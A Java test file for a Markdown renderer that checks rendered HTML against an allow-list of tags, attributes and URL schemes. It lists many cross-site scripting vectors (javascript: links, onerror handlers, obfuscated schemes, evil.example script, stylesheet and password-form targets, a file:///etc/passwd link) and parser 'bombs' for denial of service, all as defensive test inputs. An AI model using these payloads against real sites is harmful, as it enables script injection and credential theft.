package porchlight.markdown;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.lang.management.ManagementFactory;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.atomic.AtomicReference;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileMarkdownTest {
    private static final Markdown MARKDOWN = new Markdown();

    private static final Map<String, Set<String>> ALLOWED = allowed();

    private static Map<String, Set<String>> allowed() {
        Map<String, Set<String>> allowed = new LinkedHashMap<>();
        for (String plain : List.of(
                "br",
                "hr",
                "blockquote",
                "ul",
                "table",
                "thead",
                "tbody",
                "tr",
                "em",
                "strong",
                "b",
                "i",
                "u",
                "s",
                "del",
                "ins",
                "kbd",
                "sub",
                "sup",
                "mark",
                "small")) {
            allowed.put(plain, Set.of());
        }
        for (int level = 1; level <= 6; level++) {
            allowed.put("h" + level, Set.of("id"));
        }
        allowed.put("p", Set.of("class"));
        allowed.put("div", Set.of("class", "role", "aria-label", "tabindex"));
        allowed.put("ol", Set.of("start"));
        allowed.put("li", Set.of("class"));
        allowed.put("th", Set.of("align", "scope"));
        allowed.put("td", Set.of("align"));
        allowed.put("pre", Set.of("tabindex"));
        allowed.put("code", Set.of("class"));
        allowed.put("a", Set.of("href", "rel", "title", "id", "class", "aria-label"));
        allowed.put("img", Set.of("src", "alt", "title", "loading"));
        allowed.put("input", Set.of("type", "disabled", "checked", "aria-label"));
        return allowed;
    }

    /** Reads the page as a browser would and looks at every element, attribute and address. */
    static void assertHarmless(String body) {
        Page page = MARKDOWN.page(body, Links.AS_WRITTEN);
        Document document = Jsoup.parse("<!doctype html><body><main id=frame>" + page.html() + "</main></body>");
        assertEquals(1, document.body().childrenSize(), page.html());
        assertTrue(document.head().children().isEmpty(), page.html());
        for (Element element : document.select("#frame *")) {
            Set<String> attributes = ALLOWED.get(element.tagName());
            assertTrue(attributes != null, () -> "<" + element.tagName() + "> in " + page.html());
            for (Attribute attribute : element.attributes()) {
                assertTrue(attributes.contains(attribute.getKey()), () -> attribute + " in " + page.html());
            }
            for (String name : List.of("href", "src")) {
                String scheme = Targets.scheme(element.attr(name).replaceAll("[\\s\\p{Cntrl}]", ""));
                assertTrue(
                        scheme.isEmpty()
                                || Set.of("http", "https", "mailto", "tel").contains(scheme),
                        () -> name + "=" + element.attr(name) + " in " + page.html());
            }
        }
    }

    static List<String> vectors() {
        List<String> vectors = new ArrayList<>(List.of("""
                <script>alert(1)</script>
                <SCRIPT SRC=//evil.example/x.js></SCRIPT>
                <scr<script>ipt>alert(1)</scr</script>ipt>
                <img src=x onerror=alert(1)>
                <img src="x" onerror="alert(1)" alt="y">
                <img src=javascript:alert(1)>
                <img src="data:image/svg+xml;base64,PHN2Zz4=">
                <svg onload=alert(1)>
                <svg><script>alert(1)</script></svg>
                <svg><style><img src=x onerror=alert(1)></style></svg>
                <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
                <math><mi//xlink:href="data:x,<script>alert(1)</script>">
                <noscript><p title="</noscript><img src=x onerror=alert(1)>">
                <style>@import 'javascript:alert(1)';</style>
                <title><img src=x onerror=alert(1)></title>
                <textarea><img src=x onerror=alert(1)></textarea>
                <select><iframe src=javascript:alert(1)></select>
                <iframe srcdoc="<script>alert(1)</script>"></iframe>
                <object data="javascript:alert(1)"></object><embed src=x>
                <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
                <base href="https://evil.example/">
                <form action="https://evil.example"><input name=password><button>Go</button></form>
                <link rel=stylesheet href=//evil.example/x.css>
                <body onload=alert(1)>
                <a href="javascript:alert(1)">x</a>
                <a href="jav&#9;ascript:alert(1)">x</a>
                <a href=" javascript:alert(1)">x</a>
                <a href="x" onclick="alert(1)">x</a>
                <a href='x"onclick="alert(1)'>x</a>
                <a id="x" onfocus="alert(1)" tabindex=1 autofocus>x</a>
                <a name='"><script>alert(1)</script>'>x</a>
                <kbd onclick=alert(1)>x</kbd>
                <b style="position:fixed">x</b>
                <br onload=alert(1)>
                <details open ontoggle=alert(1)>
                <video><source onerror=alert(1)></video>
                <x onclick=alert(1)>x</x>
                <template><script>alert(1)</script></template>
                &lt;script&gt;alert(1)&lt;/script&gt;
                &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
                &#60;img src=x onerror=alert(1)&#62;
                &#x26;lt;img src=x onerror=alert(1)&#x26;gt;
                [x](javascript:alert(1))
                [x](JaVaScRiPt:alert(1))
                [x](jav&#9;ascript:alert(1))
                [x](jav&#x0A;ascript:alert(1))
                [x](&#106;avascript:alert(1))
                [x](&Tab;javascript:alert(1))
                [x](<java\\script:alert(1)>)
                [x](\\javascript:alert(1))
                [x](< javascript:alert(1)>)
                [x](&#1;javascript:alert(1))
                [x](javascript&colon;alert(1))
                [x](vbscript:msgbox(1))
                [x](data:text/html;base64,PHNjcmlwdD4=)
                [x](file:///etc/passwd)
                [x](blob:https://example.com/x)
                [x](view-source:javascript:alert(1))
                [x](javascript://%0aalert(1))
                [x](:javascript:alert(1))
                [x](x "\\" onmouseover=\\"alert(1)")
                [x](x '"><script>alert(1)</script>')
                [x](x"onclick="alert(1))
                [x](x&quot;onclick=&quot;alert(1))
                ![x" onerror="alert(1)](x)
                ![x](x "\\" onerror=\\"alert(1)")
                ![x](javascript:alert(1))
                ![x](data:image/svg+xml,<svg/onload=alert(1)>)
                ![<img src=x onerror=alert(1)>](x)
                ![[x](javascript:alert(1))](javascript:alert(2))
                <javascript:alert(1)>
                <data:text/html,<script>alert(1)</script>>
                <https://x.example/"onclick="alert(1)>
                https://x.example/"onclick="alert(1)
                https://x.example/<script>alert(1)</script>
                # x {#"onclick="alert(1)}
                # x" onclick="alert(1)
                # <script>alert(1)</script>
                # [x](javascript:alert(1))
                > [!NOTE"onclick=alert(1)]
                > [!NOTE]<script>alert(1)</script>
                `<script>alert(1)</script>`
                - [x] <img src=x onerror=alert(1)>
                ~~<script>alert(1)</script>~~
                """.split("\n")));
        vectors.add("```\"onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```");
        vectors.add("```x</code><script>alert(1)</script>\n```");
        vectors.add("[x]\n\n[x]: javascript:alert(1) \"y\"");
        vectors.add("[x]\n\n[x]: x '\"><script>alert(1)</script>'");
        vectors.add(
                "| <script>a</script> | [x](javascript:a) |\n|---|---|\n| <img src=x onerror=a> | `</td><script>` |");
        vectors.add("<!-- --!><script>alert(1)</script> -->");
        vectors.add("<!--><script>alert(1)</script>-->");
        vectors.add("<!-- x\n--><script>alert(1)</script>");
        vectors.add("<kbd>*a</kbd>*<b><i></b></i><a href=x>[y](z)</a>");
        vectors.add("{{constructor.constructor('alert(1)')()}}");
        vectors.add("\u0000<scr\u0000ipt>alert(1)</script>");
        vectors.add("<\u017Fcript>alert(1)</\u017Fcript>");
        return vectors;
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void rows_1_2_4_5_and_6_what_attackers_write_is_text(String vector) {
        assertHarmless(vector);
        assertHarmless("Before " + vector + " after\n\n> " + vector.replace("\n", "\n> "));
    }

    @Test
    void row_2_what_is_escaped_twice_stays_escaped() {
        String html = MARKDOWN.page("&lt;script&gt; and &amp;lt;script&amp;gt;", Links.AS_WRITTEN)
                .html();
        assertEquals("<p>&lt;script&gt; and &amp;lt;script&amp;gt;</p>\n", html);
    }

    @Test
    void row_4_an_unsafe_link_leaves_its_words() {
        assertEquals(
                "<p>words map</p>\n",
                MARKDOWN.page("[words](javascript:x) ![map](data:x)", Links.AS_WRITTEN)
                        .html());
    }

    @Test
    void what_the_caller_makes_of_a_target_is_checked_too() {
        Links careless = new Links() {
            @Override
            public String href(String target) {
                return "javascript:" + target;
            }

            @Override
            public String image(String target) {
                return "\" onerror=\"" + target;
            }
        };
        Document page = Jsoup.parse(MARKDOWN.page("[x](y) ![z](w)", careless).html());
        assertTrue(page.select("a").isEmpty());
        assertFalse(page.expectFirst("img").hasAttr("onerror"));
    }

    @Property(tries = 400)
    void row_2_no_text_makes_an_element_or_attribute_outside_the_list(@ForAll("pieces") List<String> pieces) {
        assertHarmless(String.join("", pieces));
    }

    @Provide
    Arbitrary<List<String>> pieces() {
        return Arbitraries.oneOf(
                        Arbitraries.of(
                                "<",
                                ">",
                                "\"",
                                "'",
                                "&",
                                "&lt;",
                                "&gt;",
                                "&quot;",
                                "&#9;",
                                "`",
                                "```\n",
                                "*",
                                "**",
                                "_",
                                "~~",
                                "[",
                                "](",
                                ")",
                                "![",
                                "# ",
                                "> ",
                                "- ",
                                "1. ",
                                "    ",
                                "\n",
                                "\n\n",
                                "|",
                                "|-|-|\n",
                                "\\",
                                "<!--",
                                "-->",
                                "<b>",
                                "</b>",
                                "<kbd>",
                                "</kbd>",
                                "<a href=\"",
                                "<a id='x'>",
                                "</a>",
                                "<img src=",
                                " onerror=alert(1)",
                                "<script>",
                                "</script>",
                                "<svg>",
                                "<math>",
                                "<style>",
                                "<noscript>",
                                "javascript:",
                                "data:",
                                "https://x.org",
                                "[x]: ",
                                "[!NOTE]\n",
                                "- [x] ",
                                "{#",
                                "}",
                                "{{",
                                "<br>",
                                "\t",
                                "\u0000",
                                "\uD800",
                                "\u202E",
                                "x",
                                " "),
                        Arbitraries.strings().ofMaxLength(5))
                .list()
                .ofMaxSize(40);
    }

    @BeforeAll
    static void warm() {
        bombs().values().forEach(bomb -> MARKDOWN.page(cut(bomb, 20_000), Links.AS_WRITTEN));
    }

    private static Map<String, String> bombs() {
        Map<String, String> bombs = new LinkedHashMap<>();
        bombs.put("quotes", ">".repeat(50_000));
        bombs.put("brackets", "[".repeat(50_000));
        bombs.put("brackets closed", "[".repeat(100_000) + "]".repeat(100_000));
        bombs.put("links in links", "[a](".repeat(60_000));
        bombs.put("images in images", "![".repeat(60_000) + "](x)".repeat(20_000));
        bombs.put("emphasis", "*a **a ".repeat(35_000));
        bombs.put("emphasis closed", "a**b".repeat(50_000) + "c* ".repeat(10_000));
        bombs.put("table", "|a".repeat(1_000) + "|\n" + "|-".repeat(1_000) + "|\n" + "|a\n".repeat(20_000));
        bombs.put("lists on one line", "- ".repeat(120_000));
        bombs.put("lists on many lines", stairs());
        bombs.put("quotes and lists", "> - ".repeat(60_000));
        bombs.put("elements", "<b>".repeat(30_000) + "</b>".repeat(30_000));
        bombs.put("elements crossed", "<b><i>".repeat(20_000) + "</u></i>".repeat(15_000));
        bombs.put("comments", "a <!-- ".repeat(36_000));
        bombs.put("attributes", "<a " + "b='".repeat(80_000));
        bombs.put("backticks", "`a``b".repeat(50_000));
        bombs.put(
                "one long target many times", "[a]: http://x/" + "y".repeat(100_000) + "\n\n" + "[a] ".repeat(35_000));
        bombs.put("equal headings", "# a\n".repeat(40_000));
        bombs.put("addresses", "www.a@".repeat(40_000));
        bombs.put("combining marks", "a" + "\u0301".repeat(100_000));
        bombs.put("NUL", "\u0000".repeat(200_000));
        return bombs;
    }

    private static String stairs() {
        StringBuilder stairs = new StringBuilder();
        for (int depth = 0; depth < 450; depth++) {
            stairs.append("  ".repeat(depth)).append("- a\n");
        }
        return stairs.toString();
    }

    private static String cut(String text, int most) {
        return text.length() <= most ? text : text.substring(0, most);
    }

    private static String bomb(String name) {
        return Objects.requireNonNull(bombs().get(name));
    }

    static Set<String> bombNames() {
        return bombs().keySet();
    }

    /** What is counted is the work of the thread, not the clock: other tests may share the machine. */
    @ParameterizedTest
    @MethodSource("bombNames")
    void row_59_a_bomb_costs_little_and_fits_into_a_small_stack(String name) throws InterruptedException {
        AtomicReference<Throwable> failed = new AtomicReference<>();
        AtomicLong nanos = new AtomicLong();
        Runnable work = () -> {
            MARKDOWN.page(bomb(name), Links.AS_WRITTEN);
            nanos.set(ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime());
        };
        Thread small = new Thread(null, work, "small stack", 256 * 1024);
        small.setUncaughtExceptionHandler((thread, problem) -> failed.set(problem));
        small.start();
        small.join();
        assertNull(failed.get());
        assertTrue(Duration.ofNanos(nanos.get()).toSeconds() < 3, () -> Duration.ofNanos(nanos.get()) + " of work");
    }

    @Test
    void row_59_short_rows_do_not_multiply_what_is_sent() {
        String html = MARKDOWN.page(bomb("table"), Links.AS_WRITTEN).html();
        assertTrue(html.length() < 2_000_000, () -> html.length() + " characters");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a\uD800b", "\uDC00", "# \uD83D\n\n[x](\uD800)", "`\uDFFF`", "| \uD800 |\n|-|\n"})
    void rows_64_and_69_half_a_character_never_leaves(String text) {
        Page page = MARKDOWN.page(text, Links.AS_WRITTEN);
        for (String out : List.of(
                page.html(),
                page.sections().toString(),
                page.links().toString(),
                page.contents().toString())) {
            assertEquals(out, new String(out.getBytes(UTF_8), UTF_8));
            assertFalse(out.contains("?"), out);
        }
    }
}
